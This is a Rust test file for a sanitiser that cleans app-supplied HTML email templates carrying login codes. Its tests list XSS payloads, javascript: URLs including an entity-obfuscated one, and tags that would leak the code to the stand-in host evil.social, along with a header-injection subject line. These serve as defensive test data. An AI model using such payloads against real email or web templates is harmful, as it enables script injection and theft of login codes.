//! What comes of templates that apps may publish, kind and unkind ones.

use super::*;

const HOST: Option<&str> = Some("app.demo.social");

fn cleaned(html: &str) -> String {
    let design = Design::parse(format!("{html}<p>{{{{code}}}}</p>").as_bytes(), HOST).expect("a template");
    let html = design.0;
    html.strip_suffix("<p>{{code}}</p>").map(str::to_owned).unwrap_or(html)
}

fn values(is_new_user: bool) -> LookValues<'static> {
    LookValues {
        code: "12345678",
        app_name: "Tom & <b>Jerry</b>",
        logo_uri: "https://app.demo.social/logo.png?a=1&b=2",
        is_new_user,
    }
}

#[test]
fn a_usual_template_keeps_its_look() {
    let template = r##"<!DOCTYPE html><html><head><title>Code</title><meta charset="utf-8">
<style>@media (max-width: 600px) { .box { padding: 8px } }</style></head>
<body style="background:#f2ebe4"><table class="box" width="100%" cellpadding=0><tr><td align="center">
<img src="{{logo_uri}}" alt="{{app_name}}" width="48"><h1 style="color:#1a130f">{{app_name}}</h1>
{{#is_new_user}}<p>Welcome!</p>{{/is_new_user}}{{^is_new_user}}<p>Welcome back.</p>{{/is_new_user}}
<p style="font-size:32px">{{code}}</p><a href="https://app.demo.social/help?x=1&amp;y=2">Help</a>
</td></tr></table></body></html>"##;
    let design = Design::parse(template.as_bytes(), HOST).expect("a template");
    let (new, known) = (design.fill(&values(true)), design.fill(&values(false)));
    assert!(new.contains("Welcome!") && !new.contains("Welcome back"));
    assert!(known.contains("Welcome back.") && !known.contains("Welcome!"));
    for part in [
        r#"<div style="background:#f2ebe4;"><table class="box" width="100%" cellpadding="0">"#,
        r#"<img src="https://app.demo.social/logo.png?a=1&amp;b=2" alt="Tom &amp; &lt;b&gt;Jerry&lt;/b&gt;" width="48">"#,
        r#"<h1 style="color:#1a130f;">Tom &amp; &lt;b&gt;Jerry&lt;/b&gt;</h1>"#,
        r#"<p style="font-size:32px;">12345678</p>"#,
        r#"<a href="https://app.demo.social/help?x=1&amp;y=2" rel="noreferrer">Help</a>"#,
        "<style>@media (max-width: 600px) { .box { padding: 8px } }</style>",
    ] {
        assert!(new.contains(part), "{part} is missing in\n{new}");
    }
    for gone in ["<html", "<head", "<title", "Code</", "<meta", "<body", "DOCTYPE"] {
        assert!(!new.contains(gone), "{gone} is in\n{new}");
    }
}

#[test]
fn nothing_that_acts_gets_through() {
    for (unkind, kind) in [
        ("<script>alert(1)</script>x", "x"),
        ("<SCRIPT src=x></SCRIPT >x", "x"),
        ("<p onclick=\"alert(1)\" OnLoad=x>x</p>", "<p>x</p>"),
        ("<form action=https://evil.social><input name=a><button>x</button></form>", "x"),
        ("<a href=\"javascript:alert(1)\">x</a>", "<a rel=\"noreferrer\">x</a>"),
        ("<a href=\"java&#115;cript:alert(1)\">x</a>", "<a rel=\"noreferrer\">x</a>"),
        ("<a href=\"https://evil.social/?{{code}}\">x</a>", "<a rel=\"noreferrer\">x</a>"),
        ("<img src=\"https://evil.social/pixel.png\">x", "x"),
        ("<img src=\"https://app.demo.social.evil.social/pixel.png\">x", "x"),
        ("<img src=\"https://app.demo.social@evil.social/pixel.png\">x", "x"),
        ("<img src=\"https://app.demo.social/{{code}}.png\">x", "x"),
        (
            "<img src=\"https://app.demo.social/a.png\" srcset=\"https://evil.social/b 2x\">",
            "<img src=\"https://app.demo.social/a.png\">",
        ),
        ("<link rel=stylesheet href=https://evil.social/x.css>x", "x"),
        ("<style>@import url(https://evil.social/x.css)</style>x", "x"),
        ("<meta http-equiv=refresh content=\"0;url=https://evil.social\">x", "x"),
        ("<base href=https://evil.social>x", "x"),
        ("<iframe src=x></iframe><object data=x></object><embed src=x></embed>x", "x"),
        ("<svg><script>1</script><a xlink:href=x></a></svg>x", "x"),
        ("<p title=\"a<b>c\">x</p>", "<p title=\"a&lt;b&gt;c\">x</p>"),
        ("<p title='a\"b'>x</p>", "<p title=\"a&quot;b\">x</p>"),
        ("1 < 2 <3 <", "1 &lt; 2 &lt;3 &lt;"),
        ("<!-- <p>a</p> -->x<!x><?x?>", "x"),
        ("</div></p>x", "x"),
        ("<b><i>x</b></i>", "<b><i>x</i></b>"),
        ("<unknown><p>x</p></unknown>", "<p>x</p>"),
        ("<scr<script></script>ipt>x", "ipt&gt;x"),
    ] {
        assert_eq!(cleaned(unkind), kind, "{unkind}");
    }
}

#[test]
fn what_is_open_is_closed_so_that_the_footer_cannot_be_swallowed() {
    let html = "<p>{{code}}<div style=\"display:none\"><table><tr><td>".as_bytes();
    let design = Design::parse(html, HOST).expect("a template");
    assert!(design.0.ends_with("<td></td></tr></table></div></p>"), "{}", design.0);
    let deep = "<div>".repeat(10_000) + "{{code}}";
    let design = Design::parse(deep.as_bytes(), HOST).expect("a template");
    assert_eq!(design.0.matches("<div>").count(), design.0.matches("</div>").count());
    assert!(design.0.len() < 2_000);
    for endless in ["<p {{code}}", "{{code}}<p a=\"", "{{code}}<style>a{", "{{code}}<!--", "{{code}}<script>"]
    {
        let _ = Design::parse(endless.as_bytes(), HOST);
    }
}

#[test]
fn the_code_must_be_read_by_new_and_known_people() {
    for none in [
        "",
        "<p>Hello</p>",
        "<!-- {{code}} -->",
        "<p title=\"{{code}}\">x</p>",
        "<script>{{code}}</script>",
        "{{#is_new_user}}{{code}}{{/is_new_user}}",
        "{{^is_new_user}}{{code}}{{/is_new_user}}",
    ] {
        assert_eq!(Design::parse(none.as_bytes(), HOST), Err(InvalidDesign::NoCode), "{none}");
    }
    assert_eq!(Design::parse(&[b'x'; MAX_DESIGN_BYTES + 1], HOST), Err(InvalidDesign::TooLarge));
    assert_eq!(Design::parse(b"{{code}}\xff", HOST), Err(InvalidDesign::NotText));
}

#[test]
fn braces_that_are_no_tags_are_text() {
    let fill = |text: &str| fill::fill(text, &values(true), str::to_owned);
    assert_eq!(fill("{{email}} {{ code }} {{{code}}} {{"), "{{email}} 12345678 {12345678} {{");
    assert_eq!(fill("{{x {{code}}"), "{{x 12345678");
    assert_eq!(fill("{{#is_new_user}}a{{^is_new_user}}b{{/is_new_user}}c"), "ac");
}

#[test]
fn subjects_are_one_line_with_the_code() {
    let look = |subject: &str| Look {
        app_name: "Demo".to_owned(),
        subject: Some(subject.to_owned()),
        ..Look::default()
    };
    let subject = |text: &str| look(text).subject("12345678", false).expect("a subject");
    assert_eq!(subject("{{code}} — Your {{app_name}} code"), "12345678 — Your Demo code");
    assert_eq!(subject("Hello\r\nBcc: you"), "12345678 HelloBcc: you");
    assert_eq!(
        subject("{{#is_new_user}}New{{/is_new_user}}{{^is_new_user}}Back{{/is_new_user}}"),
        "12345678 Back"
    );
    assert!(subject(&"x".repeat(1_000)).chars().count() <= MAX_SUBJECT + 9);
    assert_eq!(Look::default().subject("1", true), None);
}
